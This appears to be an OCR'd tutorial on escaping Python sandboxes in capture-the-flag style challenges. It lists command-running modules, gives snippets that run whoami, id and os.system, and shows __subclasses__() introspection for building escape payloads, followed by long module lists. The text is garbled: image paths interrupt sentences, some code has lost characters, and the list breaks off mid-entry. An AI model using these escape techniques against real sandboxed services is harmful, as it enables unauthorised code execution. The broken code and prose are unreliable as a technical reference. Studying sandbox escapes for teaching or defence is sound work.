python sandbox escape


1. Preparation

This part only needs a simple browsing and a specific impression. If you are interested, Google and Baidu can understand it in depth.

python has built-in modules for executing system commands:commands:(python 2.x)


Module is used to manage subprocesses. You can call external commands as subprocesses, generate new processes,connect to their input/output/error pipes, and get their return codes.

subprocess.Popen class
This class is used to execute a subprogram in a new process. The subprocess's run, call, check & call, check & output, getoutput and getstatusoutput functions belong to this class


A module used to access operating system functions.
General operation: 1. System operation 2. Directory operation 3. Judgment operation

System operation:
os.sep is used to distinguish system path separator
os.getenv reading environment variables
os.getcwd get current path
Directory operation: (add, delete, modify and query)
os.mkdir create a directory
Os.removediers can delete the empty directory with multi-level recursion. If there are files, they cannot be deleted
os.rename() rename
Judgment operation:
os.path.exists(path) determines whether a file or directory exists
os.path.isfile(path) to determine whether it is a file
os.path.isdir(path) determines whether it is a directory

path Modular os.path.x
x:basemae,dirname,getsize,abspath,join, ...


This module has been replaced by subprocess in 3.x. But it was also one of the important built-in modules in earlier versions of 2.x, with three functions:

getoutput(cmd): execute the cmd command and return the output, with the result of str.
getstatus(file): returns the result of executing the ls -ld file command. This function has been discarded by python, not recommendedgetstatusoutput(cmd): execute the cmd command and return the execution status and output content, with the results of int and str.


Time module, used to accurately measure code execution time
This module defines three utility functions and a common class.

timeit.timeit(stmt='pass', setup='pass', timer=, number=1000000)
To create a timer instance, the parameters are stmt: the statement or function to bemeasured, setup: the import statement of initialization code or construction environment, timer: timing function, number: the number of statements executed in each measurement

timeit.repeat(stmt='pass', setup='pass', timer=, repeat=3, number=1000000)
Create a timer instance. The parameters are stmt: the statement or function to be measured, setup: the import statement of initialization code or construction environment, timer: the timingfunction, repeat: the number ofrepeated measurements, number: the number of statements executed in each measurement


class timeit.Timer(stmt='pass', setup='pass', timer=)
Class to calculate the execution speed of small pieces of code. The parameters required by the constructor are stmt: statement or function to be measured, setup: import statement to initialize code or build environment, timer: timing function. The default value of the first two parameters is "pass", and the timer parameter is platform related; the first two parameters can contain multiple statements, separated by semicolons (;) or new lines.

Some methods of module


This module is used to obtain information about the operating system

platform.platform() gets the operating system name and version number
platform.node() gets the network name of the computer
Get compiler related information in python
... ...


This module defines the operation of processing pseudo terminal: starting another process and writing and reading its control terminal programmatically.
The module defines the following functions:

pty.fork() connects the control terminal of the subprocess to a pseudo terminal
pty.openpty() opens a new pseudo terminal
pty.spawn() generates a process thatconnects its control terminal with the io annotation of the current process. (often used to block programs that insist on reading from the control terminal)

Functions that execute system commands

print(os.popen2('whoami').read()) # 2.x
print(os.popen3('whoami').read()) # 2.x
print(os.popen4('whoami').read()) # 2.x
#commands content of lower module
commands.getoutput('ls *.sh')
>commands.getstatusoutput('ls *.sh')
commands.getstatus('ls *.sh')
>>> '0'
commands.getstatusoutput('ls *.sh')

Two magic methods

The first is that the class has the magic method
The second is that instances, classes and functions all have the magic method of "getattribute"

dir([]) #Example
dir([].class) #class
dir([].append) #function

#View supported methods in the instance
>>> class haha:
...     a=7
>>> dir(haha)
['__class__', '__delattr__', '__dict__', '__dir__', '__doc__', '__eq__', '__format__', '__ge__', '__getattribute__', '__gt__', '__hash__', '__init__', '__init_subclass__', '__le__', '__lt__', '__module__', '__ne__', '__new__', '__reduce__', '__reduce_ex__','__repr__', '__setattr__', '__sizeof__', '__str__', '__subclasshook__', '__weakref__', 'a']

#View supported methods / objects in a class
>>> dir([].__class__)
['__add__', '__class__', '__contains__', '__delattr__', '__delitem__', '__dir__', '__doc__', '__eq__', '__format__', '__ge__', '__getattribute__', '__getitem__', '__gt__', '__hash__', '__iadd__', '__imul__', '__init__', '__init_subclass__', '__iter__', '__le__', '__len__', '__lt__', '__mul__', '__ne__', '__new__', '__reduce__', '__reduce_ex__', '__repr__', '__reversed__', '__rmul__', '__setattr__', '__setitem__', '__sizeof__', '__str__', '__subclasshook__', 'append', 'clear', 'copy', 'count', 'extend', 'index', 'insert', 'pop', 'remove', 'reverse', 'sort']
>>> dir([].copy.__class__)
['__call__', '__class__', '__delattr__', '__dir__', '__doc__', '__eq__', '__format__', '__ge__','__getattribute__', '__gt__', '__hash__', '__init__', '__init_subclass__', '__le__', '__lt__', '__module__', '__name__', '__ne__', '__new__', '__qualname__', '__reduce__', '__reduce_ex__', '__repr__', '__self__', '__setattr__', '__sizeof__', '__str__', '__subclasshook__', '__text_signature__']

#View supported methods in specific functions
>>>dir([].__class__.__base__.__subclasses__()[72].__init__)
['__call__', '__class__', '__delattr__', '__dir__', '__doc__', '__eq__', '__format__', '__ge__', '__get__', '__getattribute__', '__gt__', '__hash__', '__init__', '__init_subclass__', '__le__', '__lt__', '__name__', '__ne__', '__new__', '__objclass__', '__qualname__', '__reduce__', '__reduce_ex__', '__repr__', '__setattr__', '__sizeof__', '__str__', '__subclasshook__', '__text_signature__']

#Call the init method of []. class using dict
>>> [].__class__.__dict__['__init__']
<slot wrapper '__init__' of 'list' objects>
#Use getattribute to call the init method of []. class
>>> [].__class__.__getattribute__([],'__init__')
<method-wrapper '__init__' of list object at 0x000001BAB90317C0>
#The first one returns a method, and the second one returns an instance space
 #In general, when payload1 is constructed:
Only the first method (dict) has global__

Functions that can execute arbitrary code in python

import timeit
#coding:utf-8 import timeit timeit.timeit("import('os').system('')", number=1)2.exec and eval

import platform
print platform.popen('dir').read()
import platform platform.popen('id', mode='r', bufsize=-1).read()

//Through reading and writing documents, specific analysis. Here are examples

Library imported into os or sys

You can use index when you need index position later.. Don't really count one by one

>>> dir([].__class__).index('__len__')

You need to be familiar with the built-in library and the reference relationship between libraries.

#Modules 2 stands for python2.x
all_modules_2 = [
    'BaseHTTPServer', 'imaplib', 'shelve', 'Bastion',
 'anydbm', 'imghdr', 'shlex', 'CDROM', 'argparse', 'imp', 'shutil', 'CGIHTTPServer', 'array', 'importlib', 'signal', 'Canvas', 'ast', 'imputil', 'site', 'ConfigParser', 'asynchat', 'inspect', 'sitecustomize', 'Cookie', 'asyncore', 'io', 'smtpd', 'DLFCN', 'atexit', 'itertools', 'smtplib',
  'Dialog', 'audiodev', 'json', 'sndhdr', 'DocXMLRPCServer', 'audioop', 'keyword', 'socket', 'FileDialog', 'base64', 'lib2to3', 'spwd', 'FixTk', 'bdb', 'linecache', 'sqlite3', 'HTMLParser', 'binascii', 'linuxaudiodev', 'sre', 'IN', 'binhex', 'locale', 'sre_compile', 'MimeWriter', 'bisect', 'logging', 'sre_constants', 'Queue', 'bsddb', 'lsb_release', 'sre_parse', 'ScrolledText', 'bz2', 'macpath', 'ssl', 'SimpleDialog', 'cPickle', 'macurl2path', 'stat', 'SimpleHTTPServer', 'cProfile', 'mailbox', 'statvfs',
   'SimpleXMLRPCServer', 'cStringIO', 'mailcap', 'string', 'SocketServer','calendar', 'markupbase', 'stringold', 'StringIO', 'cgi', 'marshal', 'stringprep', 'TYPES', 'cgitb', 'math', 'strop', 'Tix', 'chunk', 'md5', 'struct', 'Tkconstants', 'cmath', 'mhlib', 'subprocess', 'Tkdnd', 'cmd', 'mimetools', 'sunau', 'Tkinter', 'code', 'mimetypes', 'sunaudio', 'UserDict', 'codecs', 'mimify', 'symbol', 'UserList', 'codeop', 'mmap', 'symtable', 'UserString',
    'collections', 'modulefinder', 'sys', '_LWPCookieJar', 'colorsys', 'multifile', 'sysconfig', '_MozillaCookieJar', 'commands', 'multiprocessing', 'syslog', '__builtin__', 'compileall', 'mutex', 'tabnanny', '__future__', 'compiler', 'netrc', 'talloc', '_abcoll', 'contextlib', 'new', 'tarfile', '_ast', 'cookielib', 'nis', 'telnetlib', '_bisect', 'copy',
     'nntplib', 'tempfile', '_bsddb', 'copy_reg', 'ntpath', 'termios', '_codecs', 'crypt', 'nturl2path', 'test', '_codecs_cn', 'csv', 'numbers', 'textwrap', '_codecs_hk', 'ctypes', 'opcode', '_codecs_iso2022', 'curses', 'operator', 'thread', '_codecs_jp', 'datetime', 'optparse', 'threading', '_codecs_kr', 'dbhash', 'os', 'time', '_codecs_tw', 'dbm', 'os2emxpath', 'timeit', '_collections', 'decimal', 'ossaudiodev', 'tkColorChooser', '_csv', 'difflib', 'parser',
      'tkCommonDialog', '_ctypes', 'dircache', 'pdb', 'tkFileDialog', '_ctypes_test', 'dis', 'pickle', 'tkFont', '_curses', 'distutils', 'pickletools', 'tkMessageBox', '_curses_panel', 'doctest', 'pipes', 'tkSimpleDialog', '_elementtree', 'dumbdbm', 'pkgutil', 'toaiff','_functools', 'dummy_thread', 'platform', 'token', '_hashlib', 'dummy_threading', 'plistlib', 'tokenize', '_heapq', 'email', 'popen2', 'trace', '_hotshot', 'encodings', 'poplib', 'traceback', '_io', 'ensurepip', 'posix', 'ttk', '_json', 'errno', 'posixfile', 'tty', '_locale', 'exceptions', 'posixpath', 'turtle', '_lsprof', 'fcntl', 'pprint', 'types',
       '_md5', 'filecmp', 'profile', 'unicodedata', '_multibytecodec', 'fileinput', 'pstats', 'unittest', '_multiprocessing', 'fnmatch', 'pty', 'urllib', '_osx_support', 'formatter', 'pwd', 'urllib2', '_pyio', 'fpformat', 'py_compile', 'urlparse', '_random', 'fractions', 'pyclbr', 'user', '_sha', 'ftplib', 'pydoc', 'uu', '_sha256', 'functools', 'pydoc_data', 'uuid', '_sha512',
        'future_builtins', 'pyexpat', 'warnings', '_socket', 'gc', 'quopri', 'wave', '_sqlite3', 'genericpath', 'random', 'weakref', '_sre', 'getopt', 're', 'webbrowser', '_ssl', 'getpass', 'readline', 'whichdb', '_strptime', 'gettext', 'repr', 'wsgiref', '_struct', 'glob', 'resource', 'xdrlib', '_symtable', 'grp', 'rexec', 'xml', '_sysconfigdata', 'gzip', 'rfc822', 'xmllib', '_sysconfigdata_nd', 'hashlib', 'rlcompleter', 'xmlrpclib', '_testcapi', 'heapq', 'robotparser', 'xxsubtype', '_threading_local', 'hmac', 'runpy', 'zipfile', '_warnings','hotshot', 'sched',
         'zipimport', '_weakref', 'htmlentitydefs', 'select', 'zlib', '_weakrefset', 'htmllib', 'sets', 'abc', 'httplib', 'sgmllib', 'aifc', 'ihooks', 'sha']

all_modules_3 = [
    'AptUrl', 'hmac', 'requests_unixsocket', 'CommandNotFound', 'apport', 'hpmudext', 'resource', 'Crypto', 'apport_python_hook', 'html', 'rlcompleter', 'DistUpgrade', 'apt', 'http', 'runpy', 'HweSupportStatus', 'apt_inst', 'httplib2', 'scanext', 'LanguageSelector', 'apt_pkg', 'idna', 'sched', 'NvidiaDetector', 'aptdaemon', 'imaplib', 'secrets',
     'PIL', 'aptsources', 'imghdr', 'secretstorage', 'Quirks', 'argparse', 'imp', 'select', 'UbuntuDrivers', 'array', 'importlib', 'selectors', 'UbuntuSystemService', 'asn1crypto', 'inspect', 'shelve', 'UpdateManager', 'ast', 'io', 'shlex', '__future__', 'asynchat', 'ipaddress', 'shutil', '_ast', 'asyncio', 'itertools', 'signal', '_asyncio', 'asyncore', 'janitor', 'simplejson', '_bisect', 'atexit', 'json', 'site', '_blake2', 'audioop', 'keyring', 'sitecustomize',
      '_bootlocale', 'base64', 'keyword', 'six', '_bz2', 'bdb', 'language_support_pkgs', 'smtpd', '_cffi_backend', 'binascii', 'launchpadlib', 'smtplib', '_codecs', 'binhex', 'linecache', 'sndhdr', '_codecs_cn', 'bisect', 'locale', 'socket', '_codecs_hk', 'brlapi', 'logging', 'socketserver', '_codecs_iso2022', 'builtins', 'louis', 'softwareproperties', '_codecs_jp', 'bz2', 'lsb_release', 'speechd', '_codecs_kr', 'cProfile', 'lzma', 'speechd_config', '_codecs_tw', 'cairo', 'macaroonbakery', 'spwd', '_collections', 'calendar', 'macpath', 'sqlite3', '_collections_abc', 'certifi','macurl2path', 'sre_compile', '_compat_pickle', 'cgi', 'mailbox','sre_constants', '_compression', 'cgitb', 'mailcap', 'sre_parse', '_crypt', 'chardet', 'mako', 'ssl', '_csv', 'chunk', 'markupsafe', 'stat', '_ctypes', 'cmath', 'marshal', 'statistics', '_ctypes_test', 'cmd', 'math', 'string', '_curses', 'code', 'mimetypes','stringprep', '_curses_panel', 'codecs', 'mmap', 'struct', '_datetime', 'codeop', 'modual_test', 'subprocess', '_dbm', 'collections', 'modulefinder', 'sunau', '_dbus_bindings', 'colorsys',
        'multiprocessing', 'symbol', '_dbus_glib_bindings', 'compileall', 'nacl', 'symtable', '_decimal', 'concurrent', 'netrc', 'sys', '_dummy_thread', 'configparser', 'nis', 'sysconfig', '_elementtree', 'contextlib', 'nntplib', 'syslog','_functools', 'copy', 'ntpath', 'systemd', '_gdbm', 'copyreg', 'nturl2path', 'tabnanny', '_hashlib', 'crypt', 'numbers', 'tarfile', '_heapq', 'cryptography', 'oauth', 'telnetlib', '_imp', 'csv', 'olefile', 'tempfile', '_io', 'ctypes', 'opcode', 'termios', '_json', 'cups', 'operator', 'test', '_locale', 'cupsext', 'optparse', 'textwrap', '_lsprof', 'cupshelpers', 'orca', '_lzma', 'curses', 'os',
